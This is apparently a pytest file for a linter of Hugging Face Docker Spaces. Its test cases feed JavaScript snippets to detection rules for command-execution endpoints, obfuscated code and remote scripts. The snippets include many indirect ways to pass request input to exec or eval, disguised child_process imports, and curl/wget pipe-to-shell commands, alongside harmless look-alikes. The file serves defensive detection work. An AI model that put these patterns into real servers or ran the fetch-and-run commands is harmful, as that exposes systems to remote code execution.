"""JavaScript that calls, names or hides what it runs in another way than by its name."""

from __future__ import annotations

import pytest
from hf_lint.pipeline.engine import check_space
from support import plan, space_of

CARD = "---\nsdk: docker\n---\n"
DOCKERFILE = 'FROM node:22\nWORKDIR /app\nCOPY . .\nCMD ["node", "server.js"]\n'
HEAD = 'const express = require("express");\nconst cp = require("child_process");\nconst app = express();\n'
RUN = 'app.get("/", (q, r) => {});'
RULES = ("code-execution-endpoint", "obfuscated-code", "remote-script")


def rules_of(body: str, head: str = HEAD) -> set[str]:
    files = {"README.md": CARD, "Dockerfile": DOCKERFILE, "server.js": f"{head}{body}\napp.listen(7860);\n"}
    report = check_space(space_of(files), plan(*RULES))
    assert not report.errors
    return {finding.rule for finding in report.findings}


@pytest.mark.parametrize(
    "body",
    [
        "cp.exec.apply(null, [q.query.c])",
        "cp.exec.call(null, q.query.c)",
        "cp.exec.bind(null, q.query.c)()",
        "Reflect.apply(cp.exec, null, [q.query.c])",
        "[q.query.c].map(cp.execSync)",
        "[q.query.c].forEach(eval)",
        "Promise.resolve(q.query.c).then(eval)",
        "(() => {}).constructor(q.query.c)()",
        'process.mainModule.require("child_process").exec(q.query.c)',
        'module.require("child_" + "process").exec(q.query.c)',
        'new (require("worker_threads").Worker)(q.query.c, { eval: true })',
        'require("node-serialize").unserialize(q.query.c)',
        "new module.constructor()._compile(q.query.c, '')",
        "cp.exec(r.req.query.c)",
    ],
)
def test_another_way_to_call(body: str) -> None:
    assert rules_of(f'app.get("/", (q, r) => {{ {body}; }});') == {"code-execution-endpoint"}


@pytest.mark.parametrize(
    "body",
    [
        'app["get"]("/", (q, r) => { cp.exec(q.query.c); });',
        'app.get("/", function () { cp.exec(arguments[0].query.c); });',
    ],
)
def test_another_way_to_get_the_request(body: str) -> None:
    assert rules_of(body) == {"code-execution-endpoint"}


@pytest.mark.parametrize(
    ("body", "rule"),
    [
        ('eval(Buffer.from("cHJpbnQ=", "base64").toString());', "obfuscated-code"),
        ('new Function(atob("cHJpbnQ="))();', "obfuscated-code"),
        ("const x = cp.\\u0065xec;", "obfuscated-code"),
        ('const x = require("child_proc\\u{65}ss");', "obfuscated-code"),
        ('cp.exec("curl http://example.com/x | sh");', "remote-script"),
        ("cp.execSync('wget -qO- https://example.com/x | bash');", "remote-script"),
    ],
)
def test_hidden_or_fetched_code(body: str, rule: str) -> None:
    assert rules_of(body) == {rule}


@pytest.mark.parametrize(
    "body",
    [
        'app.get("/", (q, r) => { Math.max.apply(null, [q.query.a]); });',
        'app.get("/", (q, r) => { r.send.call(r, "a"); });',
        'app.get("/", (q, r) => { cp.exec.apply(null, ["ls"]); });',
        'app.get("/", (q, r) => { cp.execFile.bind(null, "ls", [q.query.a])(); });',
        'new (require("worker_threads").Worker)("./w.js");',
        "const range = /[\\u0041-\\u005a]/; const name = 'caf\\u00e9';",
        'const image = Buffer.from("aGk=", "base64"); eval("1");',
        'cp.exec("curl -o /tmp/a http://example.com/x");',
        "[1, 2].map(parseInt); [1].forEach(console.log);",
    ],
)
def test_look_alikes(body: str) -> None:
    assert rules_of(body) == set()


@pytest.mark.parametrize(
    "named",
    [
        'require("\\x63hild_process")',
        'require("child\\u005fprocess")',
        'require(["child", "process"].join("_"))',
        'require("child_" + "process")',
        "require(NAME)",
    ],
)
def test_a_module_whose_name_is_put_together(named: str) -> None:
    head = 'const express = require("express");\nconst NAME = "child_process";\n'
    body = f'const cp = {named};\nconst app = express();\napp.get("/", (q, r) => {{ cp.exec(q.query.c); }});'
    assert rules_of(body, head) == {"code-execution-endpoint"}
